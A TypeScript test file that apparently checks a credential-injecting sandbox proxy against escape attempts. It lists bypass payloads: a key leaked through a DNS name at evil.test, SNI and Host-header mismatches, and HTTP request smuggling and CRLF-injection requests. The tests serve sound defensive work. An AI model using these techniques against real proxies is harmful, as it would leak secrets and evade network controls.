import type { SandboxAttempt } from "./support/sandbox-attempts.ts";

const NOTHING = "nothing arrived";
const HIDDEN = `request(a + "/hidden", host="denied.test")`;

/** Another name than the one that was allowed, and requests that two readers would read as different ones. */
export function attemptFraming(attempt: SandboxAttempt) {
  attempt(
    "a secret in a name for the DNS",
    `403 host_not_allowed; ${NOTHING}`,
    `curl(f"https://{E['API_KEY'][-40:]}.evil.test{a}/")`,
  );
  attempt("a host that is not allowed", `403 host_not_allowed; ${NOTHING}`, `curl(*key(), f"https://denied.test{a}/")`);
  attempt("the same over plain http", `403 host_not_allowed; ${NOTHING}`, `curl(*key(), f"http://denied.test{a}/")`);
  attempt("the bare name of a wildcard", `403 host_not_allowed; ${NOTHING}`, `curl(f"https://wild.test{a}/")`);
  attempt(
    "a name that ends like an allowed one",
    `403 host_not_allowed; ${NOTHING}`,
    `curl(f"https://evilapi.cred.test{a}/")`,
  );
  attempt("a name below an allowed one", `403 host_not_allowed; ${NOTHING}`, `curl(f"https://x.api.cred.test{a}/")`);
  attempt("a port that is not allowed", `403 port_not_allowed; ${NOTHING}`, `curl(f"https://api.cred.test:8444{a}/")`);
  attempt(
    "SNI of another host than CONNECT's, which has a secret",
    `(SSLError)`,
    `tunnel("api.cred.test", request(a + "/"), sni="other.test")`,
  );
  attempt(
    "SNI of the secret's host in another's tunnel",
    `(SSLError)`,
    `tunnel("other.test", request(a + "/"), sni="api.cred.test")`,
  );
  attempt(
    "SNI of a host that is not allowed",
    `(SSLError)`,
    `tunnel("other.test", request(a + "/"), sni="denied.test")`,
  );

  const mismatch = `403 name_mismatch; ${NOTHING}`;
  attempt("Host of another inside TLS", mismatch, `tunnel("api.cred.test", request(a + "/", host="denied.test"))`);
  attempt(
    "Host of an allowed other inside TLS",
    mismatch,
    `tunnel("api.cred.test", request(a + "/", host="other.test"))`,
  );
  attempt(
    "Host with another port inside TLS",
    mismatch,
    `tunnel("api.cred.test", request(a + "/", host="api.cred.test:8443"))`,
  );
  attempt("two Hosts inside TLS", mismatch, `tunnel("api.cred.test", request(a + "/", "Host: denied.test"))`);
  attempt(
    "the absolute URL of another inside TLS",
    mismatch,
    `tunnel("api.cred.test", request(f"https://denied.test{a}/"))`,
  );
  attempt(
    "an absolute URL without TLS inside TLS",
    mismatch,
    `tunnel("api.cred.test", request(f"http://api.cred.test{a}/"))`,
  );
  attempt(
    "its own absolute URL inside TLS",
    "200; api.cred.test got the secret in x-api-key",
    `tunnel("api.cred.test", request(f"https://api.cred.test{a}/"))`,
  );
  attempt(
    "an absolute URL with a user in it inside TLS",
    mismatch,
    `tunnel("api.cred.test", request(f"https://api.cred.test@denied.test{a}/"))`,
  );
  attempt(
    "Host of another with a plain absolute URL",
    "200; other.test (plain http) got the placeholder in x-api-key",
    `proxy(request(f"http://other.test{a}/", host="denied.test"))`,
  );
  attempt(
    "Host of another in a plain tunnel",
    mismatch,
    `tunnel("other.test", request(a + "/", host="denied.test"), tls=False, port=80)`,
  );
  attempt(
    "CONNECT inside of TLS",
    `403 method_not_allowed; ${NOTHING}`,
    `tunnel("api.cred.test", request("denied.test:443", method="CONNECT"))`,
  );
  attempt(
    "CONNECT inside of a plain tunnel",
    `400; ${NOTHING}`,
    `tunnel("other.test", request("denied.test:443", method="CONNECT"), tls=False, port=80)`,
  );
  attempt(
    "a protocol that is neither TLS nor HTTP",
    `403 not_https; ${NOTHING}`,
    `tunnel("api.cred.test", "SSH-2.0-" + a + "\\r\\n", tls=False)`,
  );

  const head = `"POST " + a + "/ HTTP/1.1\\r\\nHost: api.cred.test\\r\\nx-api-key: " + E["API_KEY"]`;
  const malformed = (name: string, headers: string, expected = `400; ${NOTHING}`) =>
    attempt(name, expected, `tunnel("api.cred.test", ${head} + ${headers} + ${HIDDEN})`);
  malformed(
    "Content-Length and Transfer-Encoding",
    `"\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"`,
  );
  malformed("two Content-Lengths", `"\\r\\nContent-Length: 0\\r\\nContent-Length: 9\\r\\n\\r\\n"`);
  malformed("an unknown Transfer-Encoding", `"\\r\\nTransfer-Encoding: chunked, own\\r\\n\\r\\n"`);
  malformed(
    "two Transfer-Encodings",
    `"\\r\\nTransfer-Encoding: own\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"`,
    "403 name_mismatch; api.cred.test got the secret in x-api-key",
  );
  malformed("a space before a colon", `"\\r\\nContent-Length : 9\\r\\n\\r\\n"`);
  malformed("a folded header", `"\\r\\nx-a: 1\\r\\n Content-Length: 9\\r\\n\\r\\n"`);
  malformed("lines that end with LF only", `"\\nContent-Length: 0\\n\\n"`);
  malformed("a lone CR in a header", `"\\r\\nx-a: 1\\rContent-Length: 9\\r\\n\\r\\n"`);
  malformed("NUL in a header", `"\\r\\nx-a: 1\\0\\r\\n\\r\\n"`);
  malformed("a negative Content-Length", `"\\r\\nContent-Length: -1\\r\\n\\r\\n"`);
  malformed("a chunk's size that is none", `"\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nzz\\r\\n"`);
  attempt("HTTP/0.9", mismatch, `tunnel("api.cred.test", "GET " + a + "/\\r\\n\\r\\n")`);
  attempt(
    "HTTP/2 without asking",
    `400; ${NOTHING}`,
    `tunnel("api.cred.test", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`,
  );
  attempt(
    "the same malformed request to the proxy itself",
    `400; ${NOTHING}`,
    `proxy("POST http://other.test" + a + "/ HTTP/1.1\\r\\nHost: other.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + ${HIDDEN})`,
  );
  attempt(
    "HTTP/0.9 to the proxy, which makes it HTTP/1.1",
    "200; other.test (plain http) got neither",
    `proxy("GET http://other.test" + a + "/\\r\\n\\r\\n")`,
  );
  attempt(
    "headers of 100 KB",
    "refused",
    `"passed" if b" 200 " in tunnel("api.cred.test", request(a + "/", "x-long: " + "x" * 100_000)) else "refused"`,
  );
  attempt(
    "a line break in escapes in the path",
    "200; api.cred.test got the secret in x-api-key",
    `tunnel("api.cred.test", request(a + "/%0d%0aHost:%20denied.test"))`,
  );
  attempt(
    "two requests at once, the second for another host",
    "403 name_mismatch; api.cred.test got the secret in x-api-key",
    `tunnel("api.cred.test", request(a + "/").replace("close", "keep-alive") + ${HIDDEN})`,
  );
  attempt(
    "a header that takes another one off on the way",
    "200; api.cred.test got neither",
    `tunnel("api.cred.test", request(a + "/").replace("close", "close, x-api-key"))`,
  );
  attempt(
    "a query that is recorded nowhere",
    "200; api.cred.test got neither",
    `curl(f"https://api.cred.test{a}/?unrecorded=1")`,
  );
}
